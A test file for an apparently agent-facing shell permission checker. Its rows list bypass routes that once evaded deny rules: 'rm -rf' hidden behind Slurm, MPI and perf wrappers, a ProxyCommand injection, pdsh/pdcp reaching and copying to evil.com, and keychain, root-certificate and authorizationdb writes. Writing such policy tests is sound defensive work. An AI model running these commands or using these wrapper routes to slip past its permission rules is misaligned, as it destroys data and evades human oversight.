// Runners and tools found allowed beside the deny rule they meet (session 28): Slurm's salloc,
// long options a runner's grammar does not list (their value was read as the command), the
// parallel shells pdsh and clush and their copiers, VPN configurations that run commands, and
// macOS keychain writes. Each 'deny' or 'ask' row was allowed before its fix.
import { describe } from 'vitest';
import type { DecisionContext } from '../src/policy/types.js';
import { lineTable } from './helpers/line-table.js';

const RULES = {
  deny: ['Shell(rm *)', 'Read(//etc/**)', 'Edit(//etc/**)', 'Domain(evil.com)'],
  allow: ['Shell(*)'],
};

describe('Slurm and MPI runners, and long options their grammars do not list', () => {
  lineTable(RULES, [
    // salloc runs its command here, in the allocation.
    ['salloc rm -rf x', 'deny'], ['salloc -N1 --time 10 rm -rf x', 'deny'], ['salloc --mem-per-cpu 100 rm -rf x', 'deny'],
    // A long option not listed took its value from the next word, which was read as the command.
    ['srun --mem-per-cpu 100 rm -rf x', 'deny'], ['srun --foo 3 rm -rf x', 'ask'], ['srun --ntasks-per-node 2 rm -rf x', 'deny'],
    ['mpirun --mca btl self rm -rf x', 'deny'], ['mpiexec --prefix /opt/mpi rm -rf x', 'deny'], ['mpirun --app apps.txt', 'ask'],
    ['perf sched record --output f rm -rf x', 'deny'], ['perf mem record -o f rm -rf x', 'deny'],
    ['rlwrap --history-filename f rm -rf x', 'deny'], ['watchexec --unknown-opt 100 rm -rf x', 'ask'], ['gsudo --foo bar rm x', 'ask'],
    // Ordinary lines stay allowed.
    ['salloc -N 2 make', 'allow'], ['srun -n2 --mem 4G make', 'allow'], ['srun --pty --mem-per-cpu=2G make', 'allow'],
    ['mpirun -np 4 --oversubscribe ./a.out', 'allow'], ['mpirun --mca btl self ./a.out', 'allow'], ['perf sched record ls', 'allow'],
    ['flatpak run --branch stable org.x.Y', 'allow'], ['valgrind --leak-check=full ./a', 'allow'], ['firejail --private ls', 'allow'],
  ]);
});

describe('parallel shells and their copiers', () => {
  lineTable(RULES, [
    // pdsh and clush run their command on every host of -w (joined by the remote shell, as ssh does).
    ['pdsh -w h rm x', 'deny'], ['pdsh -w h "rm -rf x"', 'deny'], ['clush -w h rm -rf x', 'deny'], ['clush -w h -b rm -rf x', 'deny'],
    ['pdsh -w h', 'ask'], ["clush -w h -o '-oProxyCommand=rm x' uptime", 'ask'], ['clush -w h --copy /etc/x --dest /tmp', 'ask'],
    // The hosts they reach.
    ['pdsh -w evil.com uptime', 'deny'], ['pdsh -w ok.com,root@evil.com uptime', 'deny'], ['clush --nodes evil.com uptime', 'deny'],
    ['clush --nodes=evil.com uptime', 'deny'], ['pdsh -w ^hosts uptime', 'ask'], ['clush -w @web uptime', 'ask'], ['pdsh -w "$H" uptime', 'ask'],
    ['pdcp -w evil.com ./a /tmp', 'deny'],
    // pdcp reads what it copies; rpdcp writes where it copies to.
    ['pdcp -w h /etc/x /tmp', 'deny'], ['pdcp -r -w h /etc /tmp', 'deny'], ['rpdcp -w h /var/log/x /etc/', 'deny'],
    // Ordinary lines stay allowed.
    ['pdsh -w h1,h2 uptime', 'allow'], ['clush -w h -b uptime', 'allow'], ['pdcp -w h ./a /tmp', 'allow'], ['rpdcp -w h /var/log/x ./logs', 'allow'],
  ]);
});

describe('VPN configurations', () => {
  lineTable(RULES, [
    // A configuration names remotes and the scripts the tool runs.
    ['openvpn --config x.ovpn', 'ask'], ['openvpn x.ovpn', 'ask'], ['openvpn --config=x.ovpn', 'ask'],
    ['wg-quick up ./wg0.conf', 'ask'], ['wg-quick up $C', 'ask'], ['wg setconf wg0 peers', 'ask'], ['wg addconf wg0 peers.conf', 'ask'],
    // Ordinary lines stay allowed: an interface's configuration is the system's own.
    ['openvpn --remote ok.com 1194', 'allow'], ['wg-quick up wg0', 'allow'], ['wg-quick down wg0', 'allow'], ['wg show', 'allow'],
  ]);
});

const DARWIN: DecisionContext = { cwd: '/Users/dev/w', workspace: ['/Users/dev/w'], home: '/Users/dev', platform: 'darwin' };
const KEYCHAINS = {
  deny: ['Edit(~/Library/Keychains/**)', 'Edit(//Library/Keychains/**)', 'Edit(//var/db/**)'],
  allow: ['Shell(*)', 'Read(/**)', 'Edit(/**)'],
};

describe('macOS keychain writes', () => {
  lineTable(KEYCHAINS, [
    ['security add-generic-password -a x -s y -w pw', 'deny'], ['security add-internet-password -s h -a u -w pw login.keychain', 'deny'],
    ['security delete-generic-password -s y', 'deny'], ['security delete-keychain login.keychain', 'deny'], ['security create-keychain -p pw k.keychain', 'deny'],
    ['security create-keychain -p pw ~/Library/Keychains/k.keychain', 'deny'], ['security set-keychain-settings -t 3600', 'deny'],
    ['security import cert.p12 -k ~/Library/Keychains/login.keychain-db', 'deny'], ['security import cert.p12', 'deny'],
    ['security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain ca.pem', 'deny'], ['security remove-trusted-cert ca.pem', 'deny'],
    ['security set-key-partition-list -S apple: -s -k pw', 'deny'], ['security $CMD -s y', 'ask'],
    ['security authorizationdb write system.privilege.admin allow', 'deny'],
    // Reads stay reads: no Read rule here, so they are allowed.
    ['security find-generic-password -s y -w', 'allow'], ['security dump-keychain', 'allow'], ['security authorizationdb read system.privilege.admin', 'allow'],
  ], 'shell', DARWIN);
});
